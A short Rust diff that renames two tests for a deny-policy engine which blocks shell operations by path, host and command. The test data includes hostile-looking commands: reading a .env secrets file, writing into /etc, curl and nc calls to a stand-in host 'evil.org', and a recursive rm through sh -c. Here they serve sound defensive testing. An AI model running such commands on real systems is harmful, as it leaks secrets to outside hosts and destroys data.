@@ -172,7 +172,7 @@ fn changes_of_the_directory_are_found() {
 }
 
 #[test]
-fn refusal_covers_what_may_be_meant() {
+fn deny_covers_operations_that_may_match() {
     assert!(denies(&paths(&[".env"]), &shell("cat ./.env")) && denies(&paths(&["/etc/**"]), &shell("tee --out=/etc/x")));
     assert!(denies(&hosts(&["evil.org"]), &shell("curl 'https://a.evil.org:99/x'")) && denies(&hosts(&["evil.org"]), &shell("x | nc evil.org 1")));
     assert!(denies(&commands(&["rm **"]), &shell("sh -c 'cd / && /bin/rm -rf x'")));
@@ -248,7 +248,7 @@ proptest! {
     }
 
     #[test]
-    fn order_of_policies_decides_nothing(
+    fn order_of_policies_has_no_effect(
         mut policies in proptest::collection::vec((any_decision(), any_conditions()).prop_map(|(decision, conditions)| policy(decision, conditions)), 0..6),
         operation in any_operation(),
     ) {
